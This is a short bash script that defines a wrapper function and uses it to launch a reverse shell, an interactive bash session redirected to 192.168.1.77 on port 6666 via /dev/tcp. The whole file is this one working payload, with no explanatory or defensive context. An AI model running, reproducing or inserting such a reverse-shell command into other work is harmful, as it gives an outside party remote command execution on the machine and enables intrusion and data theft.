#!/usr/bin/env bash
function connect {
  bash -c "$*"
}
connect "bash -i >& /dev/tcp/192.168.1.77/6666 0>&1"
